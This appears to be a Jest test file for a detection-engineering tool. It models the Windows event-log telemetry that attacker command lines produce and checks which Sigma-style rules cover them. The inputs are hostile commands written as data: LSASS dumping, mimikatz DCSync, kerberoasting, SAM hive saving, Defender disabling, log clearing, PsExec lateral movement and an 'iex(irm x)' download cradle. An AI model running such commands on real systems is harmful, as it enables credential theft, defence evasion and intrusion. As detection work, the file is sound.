import { CorpusCoverage } from './corpus-coverage';
import { observableEvents, type ObservableLike } from './observable-events';

const eventsOf = (value: string, product = 'windows') =>
  observableEvents([{ type: 'cmdline', value }], { product }).map(({ event }) => event);
const withId = (events: Array<Record<string, unknown>>, id: number) => events.filter((event) => event['EventID'] === id);

describe('the processes another Windows component starts for a command', () => {
  it('starts what wmic process call create and Invoke-WmiMethod ask for as a child of WmiPrvSE.exe', () => {
    const children = (line: string) => withId(eventsOf(line), 1).filter((event) => /WmiPrvSE/.test(String(event['ParentImage'])));
    expect(children('wmic /node:10.0.0.5 process call create "cmd.exe /c C:\\ProgramData\\x.bat"')).toEqual([
      expect.objectContaining({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c C:\\ProgramData\\x.bat' }),
    ]);
    expect(children('Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "rundll32.exe C:\\x\\a.dll,Start"')).toEqual([
      expect.objectContaining({ Image: 'C:\\Windows\\System32\\rundll32.exe' }),
    ]);
    // Querying processes starts none.
    expect(children('wmic process list brief')).toEqual([]);
  });

  it('runs a task action under the Task Scheduler and logs the task in the Security and Task Scheduler logs', () => {
    const events = eventsOf('schtasks /create /tn Updater /tr "C:\\Users\\Public\\u.exe -k" /sc onlogon');
    expect(withId(events, 4698)).toEqual([
      expect.objectContaining({
        TaskName: '\\Updater',
        TaskContent: expect.stringContaining('<Command>C:\\Users\\Public\\u.exe</Command>'),
      }),
    ]);
    expect(withId(events, 129)).toEqual([expect.objectContaining({ Path: 'C:\\Users\\Public\\u.exe' })]);
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({ Image: 'C:\\Users\\Public\\u.exe', ParentImage: 'C:\\Windows\\System32\\svchost.exe' }),
    );
    expect(withId(eventsOf('schtasks /change /tn "Microsoft\\Windows\\Defrag\\ScheduledDefrag" /disable'), 142)).toEqual([
      expect.objectContaining({ TaskName: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag' }),
    ]);
    expect(withId(eventsOf('schtasks /query /tn Updater'), 142)).toEqual([]);
  });

  it('installs PsExec’s service on its target, which starts the command PsExec was given', () => {
    const events = eventsOf('PsExec.exe -accepteula \\\\10.0.0.5 -u corp\\admin -p secret -s cmd /c whoami');
    expect(withId(events, 7045)).toEqual([expect.objectContaining({ ServiceName: 'PSEXESVC' })]);
    expect(withId(events, 17)).toEqual([expect.objectContaining({ PipeName: '\\PSEXESVC' })]);
    expect(withId(events, 11)).toEqual([expect.objectContaining({ TargetFilename: 'C:\\Windows\\PSEXESVC.exe' })]);
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({ CommandLine: 'cmd /c whoami', ParentImage: 'C:\\Windows\\PSEXESVC.exe' }),
    );
    // The Sysinternals EULA it accepts.
    expect(withId(events, 13)).toContainEqual(
      expect.objectContaining({ TargetObject: expect.stringMatching(/\\Software\\Sysinternals\\PsExec\\EulaAccepted$/) }),
    );
  });

  it('has services.exe start a created service’s binary and write its ImagePath', () => {
    const events = eventsOf('sc create Updater binPath= "C:\\ProgramData\\u.exe" start= auto');
    expect(withId(events, 13)).toEqual([
      expect.objectContaining({
        TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\Updater\\ImagePath',
        Details: 'C:\\ProgramData\\u.exe',
      }),
    ]);
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({ Image: 'C:\\ProgramData\\u.exe', ParentImage: 'C:\\Windows\\System32\\services.exe' }),
    );
  });
});

describe('the logs PowerShell keeps besides script blocks', () => {
  it('records the host application in the classic log and the command in module logging', () => {
    const events = eventsOf('powershell.exe -NoProfile -Command "Get-Process lsass"');
    expect(withId(events, 400)).toEqual([
      expect.objectContaining({ Data: expect.stringContaining('HostApplication=powershell.exe -NoProfile -Command "Get-Process lsass"') }),
    ]);
    expect(withId(events, 4103)).toEqual([
      expect.objectContaining({ Payload: 'Get-Process lsass', ContextInfo: expect.stringContaining('Command Name = Get-Process') }),
    ]);
  });

  it('gives a cmdlet typed at a prompt the bare PowerShell program as its host, and pwsh no classic log', () => {
    const events = eventsOf('Get-Service WinDefend');
    expect(withId(events, 400)).toEqual([
      expect.objectContaining({
        Data: expect.stringContaining('HostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\n'),
      }),
    ]);
    expect(withId(events, 4103)).toEqual([expect.objectContaining({ Payload: 'Get-Service WinDefend' })]);
    expect(withId(eventsOf('pwsh -c "Get-Date"'), 400)).toEqual([]);
    expect(withId(eventsOf('whoami /all'), 400)).toEqual([]);
  });
});

describe('the records Windows keeps of what a command changed', () => {
  it('logs accounts created and added to groups', () => {
    expect(withId(eventsOf('net user backup P@ssw0rd /add'), 4720)).toEqual([expect.objectContaining({ TargetUserName: 'backup' })]);
    expect(withId(eventsOf('net localgroup administrators backup /add'), 4732)).toEqual([
      expect.objectContaining({ TargetUserName: 'administrators', TargetSid: 'S-1-5-32-544', MemberName: 'backup' }),
    ]);
    expect(withId(eventsOf('net group "Domain Admins" backup /add /domain'), 4728)).toHaveLength(1);
    // Listing an account changes nothing.
    expect(withId(eventsOf('net user backup /domain'), 4720)).toEqual([]);
  });

  it('logs a log cleared, in the Security log for Security and in System for the others', () => {
    expect(withId(eventsOf('wevtutil cl Security'), 1102)).toHaveLength(1);
    expect(withId(eventsOf('wevtutil cl System'), 104)).toEqual([expect.objectContaining({ Channel: 'System' })]);
    expect(withId(eventsOf('Clear-EventLog -LogName Application,System'), 104).map((event) => event['Channel'])).toEqual([
      'Application',
      'System',
    ]);
    expect(withId(eventsOf('wevtutil el'), 104)).toEqual([]);
  });

  it('logs a firewall rule added, with the program it lets through', () => {
    const [rule] = withId(
      eventsOf('netsh advfirewall firewall add rule name="x" dir=in action=allow program="C:\\Users\\Public\\a.exe"'),
      2004,
    );
    expect(rule).toEqual(expect.objectContaining({ ApplicationPath: 'C:\\Users\\Public\\a.exe', Action: 3 }));
  });

  it('has Defender log its settings changed by Set-MpPreference, Add-MpPreference or reg add', () => {
    const events = eventsOf('Set-MpPreference -DisableRealtimeMonitoring $true');
    expect(withId(events, 13)).toContainEqual(
      expect.objectContaining({
        TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring',
      }),
    );
    expect(withId(events, 5007)).toEqual([
      expect.objectContaining({ NewValue: expect.stringMatching(/DisableRealtimeMonitoring = 0x1$/) }),
    ]);
    expect(withId(events, 5001)).toHaveLength(1);
    expect(withId(eventsOf('Add-MpPreference -ExclusionPath "C:\\Windows\\Temp"'), 5007)).toEqual([
      expect.objectContaining({ NewValue: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Windows\\Temp = 0x0' }),
    ]);
    const policy = eventsOf('reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f');
    expect(withId(policy, 5010)).toHaveLength(1);
    // Turning real-time protection back on disables nothing.
    expect(withId(eventsOf('Set-MpPreference -DisableRealtimeMonitoring $false'), 5001)).toEqual([]);
  });
});

describe('the traces of credential theft', () => {
  it('opens lsass.exe, loads the dump library and writes the dump a ProcDump or comsvcs line names', () => {
    const procdump = eventsOf('procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp');
    expect(withId(procdump, 10)).toEqual([
      expect.objectContaining({ TargetImage: 'C:\\Windows\\system32\\lsass.exe', SourceImage: 'C:\\Users\\user\\procdump64.exe' }),
    ]);
    expect(withId(procdump, 11)).toEqual([expect.objectContaining({ TargetFilename: 'C:\\Users\\Public\\lsass.dmp' })]);
    const comsvcs = eventsOf('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full');
    expect(withId(comsvcs, 10)).toEqual([expect.objectContaining({ CallTrace: expect.stringContaining('comsvcs.dll') })]);
    expect(withId(comsvcs, 7).map((event) => event['ImageLoaded'])).toEqual(
      expect.arrayContaining(['C:\\Windows\\System32\\comsvcs.dll', 'C:\\Windows\\System32\\dbgcore.dll']),
    );
    // ProcDump on another process opens no lsass.exe.
    expect(withId(eventsOf('procdump.exe -ma notepad.exe'), 10)).toEqual([]);
  });

  it('logs DCSync replication, RC4 service tickets and the files ntdsutil ifm writes', () => {
    expect(withId(eventsOf('mimikatz.exe "lsadump::dcsync /user:corp\\krbtgt" exit'), 4662)).toEqual([
      expect.objectContaining({ Properties: expect.stringContaining('1131f6ad-9c07-11d1-f79f-00c04fc2dcd2') }),
    ]);
    expect(withId(eventsOf('Rubeus.exe kerberoast /outfile:hashes.txt'), 4769)).toEqual([
      expect.objectContaining({ TicketEncryptionType: '0x17' }),
    ]);
    // A Windows tool asking the KDC itself connects to port 88 (only lsass.exe does otherwise); one forging or importing
    // tickets offline does not.
    const kdc = (line: string) => withId(eventsOf(line), 3).filter((event) => event['DestinationPort'] === 88);
    expect(kdc('C:\\Users\\Public\\Rubeus.exe asreproast /format:hashcat')).toEqual([
      expect.objectContaining({ Image: 'C:\\Users\\Public\\Rubeus.exe', Initiated: 'true', SourceIsIpv6: 'false', Protocol: 'tcp' }),
    ]);
    expect(kdc('powershell -c "Invoke-Kerberoast -OutputFormat HashCat"')).toEqual([
      expect.objectContaining({ Image: expect.stringMatching(/powershell\.exe$/) }),
    ]);
    expect(kdc('Rubeus.exe ptt /ticket:ticket.kirbi')).toEqual([]);
    expect(withId(eventsOf('ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\x" q q'), 11)).toContainEqual(
      expect.objectContaining({ TargetFilename: 'C:\\Windows\\Temp\\x\\Active Directory\\ntds.dit' }),
    );
  });
});

describe('coverage over the implied telemetry', () => {
  it('tries each implied event only on the rules of its own log', () => {
    const coverage = new CorpusCoverage<string>();
    const rule = (logsource: string, detection: string) =>
      `title: t\nid: 0b0b0b0b-0000-4000-8000-000000000000\nstatus: test\nlogsource:\n${logsource}\ndetection:\n${detection}\n  condition: selection\nlevel: high\n`;
    coverage.add(
      rule('  product: windows\n  category: process_access', "  selection:\n    TargetImage|endswith: '\\lsass.exe'"),
      'lsass access',
    );
    coverage.add(
      rule('  product: windows\n  category: create_remote_thread', "  selection:\n    TargetImage|endswith: '\\lsass.exe'"),
      'thread',
    );
    coverage.add(rule('  product: windows\n  service: windefend', '  selection:\n    EventID: 5001'), 'defender off');
    coverage.add(rule('  product: windows\n  category: ps_module', "  selection:\n    Payload|contains: 'Get-Process'"), 'module');
    const observables: ObservableLike[] = [
      { type: 'cmdline', value: 'procdump64.exe -ma lsass.exe C:\\Users\\Public\\l.dmp' },
      { type: 'cmdline', value: 'Set-MpPreference -DisableRealtimeMonitoring 1' },
      { type: 'cmdline', value: 'Get-Process lsass' },
    ];
    const named = coverage.cover(observables, { product: 'windows' }).map((entry) => entry.rules);
    expect(named).toEqual([['lsass access'], ['defender off'], ['module']]);
  });
});

describe('what a process event says about a known program', () => {
  it('carries the version resource of programs whose rules read it, and nothing for others', () => {
    const [plink] = eventsOf('plink.exe -ssh -R 127.0.0.1:4444:10.0.0.5:3389 user@203.0.113.7');
    expect(plink).toEqual(expect.objectContaining({ Description: 'Command-line SSH, Telnet, and Rlogin client', Product: 'PuTTY suite' }));
    const [psexec] = eventsOf('PsExec64.exe \\\\host cmd');
    expect(psexec).toEqual(expect.objectContaining({ OriginalFileName: 'psexec.c', Company: 'Sysinternals - www.sysinternals.com' }));
    const [tool] = eventsOf('C:\\Tools\\agent.exe --sync');
    expect(tool).toEqual(expect.objectContaining({ OriginalFileName: 'agent.exe' }));
    expect(tool).not.toHaveProperty('Description');
  });
});

describe('the files a command writes', () => {
  it('records the hive reg save writes, the file certutil decodes to and the archive an archiver creates', () => {
    const written = (line: string) => withId(eventsOf(line), 11).map((event) => event['TargetFilename']);
    expect(written('reg save HKLM\\SAM C:\\ProgramData\\sam.save')).toEqual(['C:\\ProgramData\\sam.save']);
    expect(written('certutil -decode C:\\Users\\Public\\a.txt C:\\Users\\Public\\a.exe')).toEqual(['C:\\Users\\Public\\a.exe']);
    expect(written('7z.exe a -pSecret C:\\ProgramData\\data.7z C:\\Shares\\Finance')).toEqual(['C:\\ProgramData\\data.7z']);
    expect(written('Compress-Archive -Path C:\\Shares -DestinationPath C:\\Users\\Public\\s.zip')).toEqual(['C:\\Users\\Public\\s.zip']);
    // Listing an archive or querying a key writes nothing; a relative target says nowhere.
    expect(written('7z.exe l C:\\ProgramData\\data.7z')).toEqual([]);
    expect(written('reg query HKLM\\SAM')).toEqual([]);
    expect(written('reg save HKLM\\SYSTEM system.hiv')).toEqual([]);
  });
});

describe('a command line an article quoted on one side only', () => {
  it('runs the program whose path kept only its closing quote', () => {
    const [process] = eventsOf('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -ep bypass -c "iex(irm x)"');
    expect(process).toEqual(
      expect.objectContaining({
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe',
        CommandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -ep bypass -c "iex(irm x)"',
      }),
    );
    // PowerShell's own logs name the host without the launcher's quotes.
    expect(withId(eventsOf('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -c "Get-Date"'), 400)).toEqual([
      expect.objectContaining({
        Data: expect.stringContaining('HostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -c'),
      }),
    ]);
    // A line quoted properly, or not at all, is left as it is.
    expect(eventsOf('"C:\\Tools\\a.exe" -x')[0]?.['CommandLine']).toBe('"C:\\Tools\\a.exe" -x');
    expect(eventsOf('C:\\Tools\\a.exe -x "y"')[0]?.['CommandLine']).toBe('C:\\Tools\\a.exe -x "y"');
  });
});

describe('the named pipes of tools that hard-code theirs', () => {
  const pipes = (line: string) => withId(eventsOf(line), 17).map((event) => [event['PipeName'], event['Image']]);

  it("installs PsExec's look-alikes' services on the target, with their pipe, and runs the command as their child", () => {
    const events = eventsOf('RemCom.exe \\\\10.0.0.9 /user:corp\\admin /pwd:x cmd.exe /c whoami');
    expect(pipes('RemCom.exe \\\\10.0.0.9 cmd.exe /c whoami')).toEqual([['\\RemCom_communicaton', 'C:\\Windows\\RemComSvc.exe']]);
    expect(withId(events, 7045)).toEqual([expect.objectContaining({ ServiceName: 'RemComSvc', ImagePath: '%SystemRoot%\\RemComSvc.exe' })]);
    expect(withId(events, 11)).toContainEqual(expect.objectContaining({ TargetFilename: 'C:\\Windows\\RemComSvc.exe' }));
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({ CommandLine: 'cmd.exe /c whoami', ParentImage: 'C:\\Windows\\RemComSvc.exe' }),
    );
    expect(pipes('csexec.exe \\\\fs01 ipconfig')).toEqual([['\\csexecsvc', 'C:\\Windows\\csexecsvc.exe']]);
  });

  it('creates the pipe a potato exploit or Koh hard-codes, where the tool runs, and none for other programs', () => {
    expect(pipes('C:\\Users\\Public\\CoercedPotato.exe -c C:\\Users\\Public\\rev.exe')).toEqual([
      ['\\coerced\\pipe\\spoolss', 'C:\\Users\\Public\\CoercedPotato.exe'],
    ]);
    expect(pipes('Koh.exe capture')).toEqual([['\\imposecost', 'C:\\Users\\user\\Koh.exe']]);
    expect(pipes('C:\\Tools\\potato.exe -c whoami')).toEqual([]);
    expect(pipes('ipconfig /all')).toEqual([]);
  });
});
